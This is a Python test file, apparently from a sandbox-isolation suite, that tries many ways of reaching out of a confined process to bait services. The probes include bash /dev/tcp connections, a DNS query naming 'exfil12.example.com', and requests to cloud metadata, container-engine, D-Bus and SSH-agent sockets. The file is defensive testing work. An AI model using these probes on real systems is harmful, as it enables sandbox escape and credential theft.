"""Attempts to reach something over a network or a socket.

Each bait that is reached notes who reached it, and answers with a secret.
"""
import ctypes
import os
import socket
import struct
import subprocess

from hostile import BAIT, attempt


def ask(family, kind, address, name, protocol=0):
    with socket.socket(family, kind, protocol) as s:
        s.settimeout(3)
        s.connect(address)
        s.sendall(name.encode() + b'\r\n')
        return s.recv(4096)


INET, INET6, UNIX, STREAM, DGRAM = socket.AF_INET, socket.AF_INET6, socket.AF_UNIX, socket.SOCK_STREAM, socket.SOCK_DGRAM


@attempt('loopback')
def _():
    return ask(INET, STREAM, ('127.0.0.1', BAIT['tcp']), 'loopback')


@attempt('loopback-other-address')
def _():
    return ask(INET, STREAM, ('127.8.8.8', BAIT['tcp']), 'loopback-other-address')


@attempt('loopback-zero')
def _():
    return ask(INET, STREAM, ('0.0.0.0', BAIT['tcp']), 'loopback-zero')


@attempt('loopback-six')
def _():
    return ask(INET6, STREAM, ('::1', BAIT['tcp6']), 'loopback-six')


@attempt('loopback-mapped')
def _():
    return ask(INET6, STREAM, ('::ffff:127.0.0.1', BAIT['tcp']), 'loopback-mapped')


@attempt('loopback-multipath')
def _():
    return ask(INET, STREAM, ('127.0.0.1', BAIT['tcp']), 'loopback-multipath', 262)


def by_sending(send):
    """Connects without connect. The socket blocks: of one with a time limit of Python's own, a send only begins to connect."""
    with socket.socket(INET, STREAM) as s:
        for limit in (socket.SO_SNDTIMEO, socket.SO_RCVTIMEO):
            s.setsockopt(socket.SOL_SOCKET, limit, struct.pack('ll', 3, 0))
        send(s, 0x20000000, ('127.0.0.1', BAIT['tcp']))  # MSG_FASTOPEN
        return s.recv(4096)


@attempt('loopback-fast-open')
def _():
    return by_sending(lambda s, fast, to: s.sendto(b'loopback-fast-open\n', fast, to))


@attempt('loopback-fast-open-message')
def _():
    return by_sending(lambda s, fast, to: s.sendmsg([b'loopback-fast-open-message\n'], [], fast, to))


@attempt('loopback-fast-open-messages')
def _():
    class Part(ctypes.Structure):
        _fields_ = [('base', ctypes.c_char_p), ('len', ctypes.c_size_t)]

    class Message(ctypes.Structure):
        _fields_ = [('name', ctypes.c_char_p), ('namelen', ctypes.c_uint), ('parts', ctypes.POINTER(Part)), ('count', ctypes.c_size_t),
                    ('control', ctypes.c_void_p), ('controllen', ctypes.c_size_t), ('flags', ctypes.c_int), ('sent', ctypes.c_uint)]

    def send(s, fast, to):
        name = struct.pack('=H', INET) + struct.pack('!H4s8x', to[1], socket.inet_aton(to[0]))
        text = b'loopback-fast-open-messages\n'
        message = Message(name, len(name), ctypes.pointer(Part(text, len(text))), 1, None, 0, 0, 0)
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.sendmmsg(s.fileno(), ctypes.byref(message), 1, fast) < 0:
            raise OSError(ctypes.get_errno(), 'sendmmsg')

    return by_sending(send)


@attempt('loopback-datagram')
def _():
    return ask(INET, DGRAM, ('127.0.0.1', BAIT['udp']), 'loopback-datagram')


@attempt('loopback-shell')
def _():
    p = subprocess.run(['bash', '-c', 'exec 3<>/dev/tcp/127.0.0.1/%d; echo loopback-shell >&3; cat <&3' % BAIT['tcp']], stdout=subprocess.PIPE,
                       stderr=subprocess.DEVNULL, timeout=10)
    if not p.stdout:
        raise ConnectionRefusedError(111, 'bash')
    return p.stdout


@attempt('host-address')
def _():
    return ask(INET, STREAM, (BAIT['host'], BAIT['any']), 'host-address')


@attempt('redis')
def _():
    with socket.create_connection(('127.0.0.1', BAIT['redis']), 3) as s:
        s.sendall(b'*2\r\n$3\r\nGET\r\n$6\r\nsecret\r\n')
        return s.recv(4096)


@attempt('redis-written')
def _():
    with socket.create_connection(('127.0.0.1', BAIT['redis']), 3) as s:
        s.sendall(b'*3\r\n$3\r\nSET\r\n$13\r\nredis-written\r\n$3\r\nyes\r\n')
        return s.recv(4096)


@attempt('redis-socket')
def _():
    return 'done' if ask(UNIX, STREAM, BAIT['redis socket'], 'PING') else ''


@attempt('socket-file')
def _():
    return ask(UNIX, STREAM, BAIT['unix'], 'socket-file')


@attempt('socket-abstract')
def _():
    return ask(UNIX, STREAM, '\0' + BAIT['abstract'], 'socket-abstract')


@attempt('socket-abstract-datagram')
def _():
    with socket.socket(UNIX, DGRAM) as s:
        s.sendto(b'socket-abstract-datagram', '\0' + BAIT['abstract datagram'])
    return 'done'


@attempt('socket-file-datagram')
def _():
    one, _other = socket.socketpair(UNIX, DGRAM)
    one.sendto(b'socket-file-datagram', BAIT['datagram file'])
    return 'done'


@attempt('socket-file-again')
def _():
    one, _other = socket.socketpair(UNIX, socket.SOCK_RAW)  # which the kernel makes one of datagrams
    one.connect(BAIT['datagram file'])
    one.send(b'socket-file-again')
    return 'done'


@attempt('engine-socket')
def _():
    for path in ('/var/run/docker.sock', '/run/podman/podman.sock', '/run/containerd/containerd.sock', '/run/dbus/system_bus_socket', '/run/systemd/private'):
        try:
            ask(UNIX, STREAM, path, 'engine-socket')
            return 'done'
        except OSError as e:
            last = e
    raise last


@attempt('agent-socket')
def _():
    return ask(UNIX, STREAM, BAIT['agent'], 'agent-socket')


@attempt('metadata')
def _():
    return 'done' if ask(INET, STREAM, ('169.254.169.254', 80), 'GET / HTTP/1.0\r\n') else ''


@attempt('metadata-six')
def _():
    return 'done' if ask(INET6, STREAM, ('fd00:ec2::254', 80), 'GET / HTTP/1.0\r\n') else ''


@attempt('internet')
def _():
    return 'done' if ask(INET, STREAM, ('1.1.1.1', 443), 'x') else ''


@attempt('name-lookup')
def _():
    return 'done' if socket.getaddrinfo('github.com', 443) else ''


@attempt('name-query')
def _():
    with socket.socket(INET, DGRAM) as s:
        s.settimeout(3)
        s.sendto(b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07exfil12\x07example\x03com\x00\x00\x01\x00\x01', (BAIT['host'], BAIT['udp any']))
        return s.recv(512)


@attempt('door-for-others')
def _():
    # A way in from outside, for as long as the test runs.
    with socket.socket(INET, STREAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(('127.0.0.1', BAIT['door']))
        s.listen(1)
        s.settimeout(3)
        s.accept()
    return 'done'


@attempt('agent-of-the-host')
def _():
    for name in ('SSH_AUTH_SOCK', 'DOCKER_HOST', 'DBUS_SESSION_BUS_ADDRESS'):
        if name in os.environ:
            return 'done'
    raise PermissionError(1, 'nothing is set')
